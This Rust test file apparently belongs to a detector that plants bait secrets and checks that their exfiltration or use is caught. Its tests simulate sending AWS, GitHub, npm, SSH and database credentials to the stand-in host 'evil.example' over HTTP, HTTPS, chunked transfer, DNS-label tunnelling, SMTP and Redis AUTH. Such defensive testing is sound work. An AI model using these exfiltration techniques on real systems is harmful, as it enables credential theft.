//! Clients that carry secrets off, or use them.

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use hickory_proto::op::{Message, Query};
use hickory_proto::rr::{Name, RecordType};
use http_body_util::Full;
use hyper::Request;
use hyper::body::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::super::super::testimony::{Handshake, Said};
use super::stage::{one, play_with};
use crate::bait::Baits;

fn baits() -> Baits {
    Baits::new([7; 32])
}

fn seen(said: &[Said]) -> Vec<(&str, &str, &str, Option<&str>)> {
    let baits = said.iter().filter_map(|it| if let Said::Bait(bait) = it { Some(bait) } else { None });
    assert!(baits.clone().all(|it| !it.field.is_empty()));
    baits.map(|it| (&it.name[..], &it.encoding[..], &it.place[..], it.used_at.as_deref())).collect()
}

fn post(uri: &str, body: String) -> Request<Full<Bytes>> {
    let request = Request::builder().method("POST").uri(uri).header("host", "evil.example");
    request.body(Full::new(Bytes::from(body))).unwrap()
}

#[test]
fn a_secret_in_a_body_is_carried_off_whatever_the_transfer() {
    let secret = baits().secret("aws-credentials", "secret_access_key").to_owned();
    let said = play_with(baits(), |stage| async move {
        one(stage.connect().await, post("/up", format!("key={secret}&x=1"))).await;
        let stream = stage.connect().await;
        let tls = stage.trusting(stream, "evil.example", &[]).await;
        one(tls, post("/up", BASE64_STANDARD.encode(format!("secret: {secret}\n")))).await;
        // In chunks, each of which holds too little of it.
        let chunks: String = secret
            .as_bytes()
            .chunks(7)
            .map(|it| format!("{:x}\r\n{}\r\n", it.len(), it.escape_ascii()))
            .collect();
        let head = "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
        stage.say(format!("{head}{chunks}0\r\n\r\n").as_bytes()).await;
    });
    let name = "aws-credentials";
    assert_eq!(
        seen(&said),
        [(name, "plain", "http", None), (name, "base64", "https", None), (name, "plain", "http", None)]
    );
}

#[test]
fn a_secret_in_what_no_reader_understands_is_seen_all_the_same() {
    let secret = baits().secret("github-token", "token").to_owned();
    let said = play_with(baits(), |stage| async move {
        stage.say(format!("POST / HTTP/1.1\r\nContent-Length: x\r\n\r\n{secret}").as_bytes()).await;
        stage.say(format!("\0\x01{secret}").as_bytes()).await;
    });
    assert_eq!(
        seen(&said),
        [("github-token", "plain", "http", None), ("github-token", "plain", "raw", None)]
    );
}

#[test]
fn a_credential_that_is_shown_to_its_own_service_is_used() {
    let token = baits().secret("npm-token", "token").to_owned();
    let request = move |host: &str| {
        let head = format!("GET /-/whoami HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n");
        format!("{head}Authorization: Bearer {token}\r\n\r\n").into_bytes()
    };
    let said = play_with(baits(), |stage| async move {
        stage.say(&request("registry.npmjs.org")).await;
        stage.say(&request("evil.example")).await;
    });
    let seen = seen(&said);
    assert_eq!((seen[0].0, seen[0].3), ("npm-token", Some("npm")), "{seen:?}");
    assert_eq!(seen.len(), 2, "{seen:?}");
}

#[test]
fn names_that_are_asked_for_one_after_the_other_carry_a_secret_together() {
    let secret = baits().secret("aws-credentials", "secret_access_key").to_owned();
    let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    let said = play_with(baits(), |stage| async move {
        let stream = stage.connect().await;
        let mut tls = stage.trusting(stream, "dns.example", &[b"dot"]).await;
        for piece in hex.as_bytes().chunks(30) {
            let mut message = Message::new();
            let name = format!("{}.t.evil.example.", piece.escape_ascii());
            message.add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
            let message = message.to_vec().unwrap();
            tls.write_u16(message.len() as u16).await.unwrap();
            tls.write_all(&message).await.unwrap();
            let mut answer = vec![0; tls.read_u16().await.unwrap().into()];
            tls.read_exact(&mut answer).await.unwrap();
        }
    });
    let [(name, encoding, place, None)] = seen(&said)[..] else { panic!("{:?}", seen(&said)) };
    assert_eq!((name, place), ("aws-credentials", "dns"));
    assert!(encoding.starts_with("dns-labels"), "{encoding}");
}

#[test]
fn a_mail_is_told_and_looked_through_also_after_it_asked_for_tls() {
    let secret = baits().secret("ssh-key", "private_key").to_owned();
    let said = play_with(baits(), |stage| async move {
        let mut stream = stage.connect().await;
        stream.write_all(b"EHLO me\r\n").await.unwrap();
        until(&mut stream, b"STARTTLS").await;
        until(&mut stream, b"\r\n250 ").await;
        until(&mut stream, b"\r\n").await;
        stream.write_all(b"STARTTLS\r\n").await.unwrap();
        until(&mut stream, b"220 ").await;
        until(&mut stream, b"\r\n").await;
        let mut tls = stage.trusting(stream, "mail.example", &[]).await;
        tls.write_all(b"EHLO me\r\n").await.unwrap();
        until(&mut tls, b"\r\n250 ").await;
        let mail = format!(
            "MAIL FROM:<a@b>\r\nRCPT TO:<c@evil.example>\r\nDATA\r\nSubject: x\r\n\r\n{secret}\r\n.\r\nQUIT\r\n"
        );
        tls.write_all(mail.as_bytes()).await.unwrap();
        until(&mut tls, b"221 ").await;
    });
    assert_eq!(seen(&said)[0].0, "ssh-key");
    assert_eq!(seen(&said)[0].2, "smtp");
    let commands =
        said.iter().filter_map(|it| if let Said::Command(it) = it { Some(&it.verb[..]) } else { None });
    let commands: Vec<&[u8]> = commands.collect();
    assert_eq!(commands[..3], [&b"EHLO"[..], b"STARTTLS", b"EHLO"], "{said:?}");
    assert!(commands.contains(&&b"DATA"[..]));
    assert!(said.iter().any(|it| matches!(it, Said::Tls(tls) if tls.outcome == Handshake::Done)));
}

#[test]
fn a_login_with_a_secret_is_a_use_of_it() {
    let secret = baits().secret("dotenv", "db_password").to_owned();
    let said = play_with(baits(), |stage| async move {
        let (head, length) = ("*2\r\n$4\r\nAUTH\r\n", secret.len());
        stage.say(format!("{head}${length}\r\n{secret}\r\n").as_bytes()).await;
    });
    assert_eq!(seen(&said), [("dotenv", "plain", "redis", Some("redis"))]);
}

/// Reads until this was said.
async fn until(stream: &mut (impl AsyncReadExt + Unpin), said: &[u8]) {
    let mut heard = Vec::new();
    while !heard.ends_with(said) {
        heard.push(stream.read_u8().await.unwrap());
    }
}
